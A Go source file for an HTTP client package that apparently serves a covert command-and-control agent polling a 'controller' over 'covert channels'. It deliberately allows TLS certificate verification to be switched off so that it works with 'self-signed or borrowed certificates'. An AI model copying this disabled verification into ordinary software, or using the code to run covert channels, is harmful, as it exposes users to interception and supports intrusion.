/*
The httpclient package performs a single request/response exchange against a
controller endpoint. It reports the final status code and the accumulated
response body; a status of zero means the exchange failed at the transport
level (connection refused, reset, no response). There is no retry loop here:
for a polling channel the next scheduled poll is the retry.
*/
package httpclient

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"time"

	"remora.dev/agent/logger"
)

const (
	httpTimeout = time.Second * 30
)

type HTTPOptions struct {
	Headers     http.Header
	ContentType string

	// SkipTLSVerify disables TLS peer verification for this client. Covert
	// channels run against controllers with self-signed or borrowed
	// certificates, so the channel layer sets this on purpose.
	SkipTLSVerify bool
}

type HttpClient struct {
	logger *logger.Logger

	headers     http.Header
	contentType string
	client      *http.Client
}

func New(logger *logger.Logger, options HTTPOptions) *HttpClient {
	if options.Headers == nil {
		options.Headers = http.Header{}
	}

	transport := &http.Transport{
		TLSClientConfig: &tls.Config{
			InsecureSkipVerify: options.SkipTLSVerify,
		},
	}

	return &HttpClient{
		logger:      logger,
		headers:     options.Headers,
		contentType: options.ContentType,
		client: &http.Client{
			Transport: transport,
			Timeout:   httpTimeout,
		},
	}
}

func (h *HttpClient) Get(ctx context.Context, endpoint string) (int, []byte, error) {
	return h.Do(ctx, http.MethodGet, endpoint, nil)
}

func (h *HttpClient) Post(ctx context.Context, endpoint string, body []byte) (int, []byte, error) {
	return h.Do(ctx, http.MethodPost, endpoint, body)
}

// Do executes one exchange. Any completed exchange returns the server's
// status code, 4xx/5xx included; only transport-level failures return 0.
func (h *HttpClient) Do(ctx context.Context, method string, endpoint string, body []byte) (int, []byte, error) {
	if _, err := url.ParseRequestURI(endpoint); err != nil {
		return 0, nil, fmt.Errorf("refusing to request malformed endpoint %s: %w", endpoint, err)
	}

	var reader io.Reader
	if len(body) > 0 {
		reader = bytes.NewReader(body)
	}

	request, err := http.NewRequestWithContext(ctx, method, endpoint, reader)
	if err != nil {
		return 0, nil, fmt.Errorf("failed to build %s request: %w", method, err)
	}

	request.Header = h.headers.Clone()
	if h.contentType != "" {
		request.Header.Set("Content-Type", h.contentType)
	}

	// The net/http transport manages the Connection header itself; asking
	// for close must go through Request.Close or it is silently dropped
	if request.Header.Get("Connection") == "close" {
		request.Close = true
	}

	response, err := h.client.Do(request)
	if err != nil {
		return 0, nil, fmt.Errorf("%s request failed: %w", method, err)
	}
	defer response.Body.Close()

	responseBody, err := io.ReadAll(response.Body)
	if err != nil {
		// We got a status line, so the network path works even if the body
		// was cut short
		h.logger.Debugf("failed to read full response body: %s", err)
		return response.StatusCode, nil, nil
	}

	return response.StatusCode, responseBody, nil
}
